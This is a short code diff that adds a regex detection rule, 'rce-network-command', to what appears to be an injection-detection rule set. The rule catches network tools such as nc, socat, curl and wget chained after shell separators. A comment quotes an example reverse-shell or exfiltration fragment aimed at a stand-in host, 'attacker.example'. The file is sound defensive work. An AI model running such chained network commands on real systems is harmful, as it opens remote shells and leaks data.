@@ -186,6 +186,12 @@ RULES: tuple[Rule, ...] = (
     Rule("rce-command-chain", "rce",
          r"(?i)(?:[;|&\n\x60]|\$\(|\|\||&&)\s*(?:/(?:usr/)?(?:local/)?s?bin/)?"
          + _COMMANDS + _SHELL_ARG, cmdline=True),
+    # A network tool chained after a separator, aimed at a host name (a
+    # reverse shell or an exfiltration, e.g. "| nc attacker.example 4444").
+    Rule("rce-network-command", "rce",
+         r"(?i)(?:[;|&\n\x60]|\$\(|\|\||&&)\s*(?:/(?:usr/)?s?bin/)?"
+         r"(?:nc|ncat|netcat|telnet|socat|curl|wget|ssh|scp|ftp|tftp|ping|nslookup"
+         r"|dig)\s+(?:-\S+\s+)*[\w@:-]+(?:\.[\w-]+)+", cmdline=True),
     Rule("rce-leading-command", "rce",
          r"(?i)^\s*(?:time\s+|nohup\s+|sudo\s+|env\s+)?(?:ls|wget|curl|nc|ncat|bash|"
          r"sh|zsh|whoami|uname|ifconfig|ipconfig|nslookup|chmod|chown|busybox|"
